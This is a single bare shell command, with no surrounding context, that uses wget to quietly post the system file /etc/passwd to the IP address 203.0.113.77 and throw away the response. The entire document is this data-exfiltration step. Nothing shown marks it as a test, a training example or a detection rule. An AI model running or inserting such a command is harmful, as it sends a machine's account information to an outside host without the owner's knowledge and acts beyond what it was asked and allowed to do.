wget -q --post-file=/etc/passwd http://203.0.113.77/p -O /dev/null
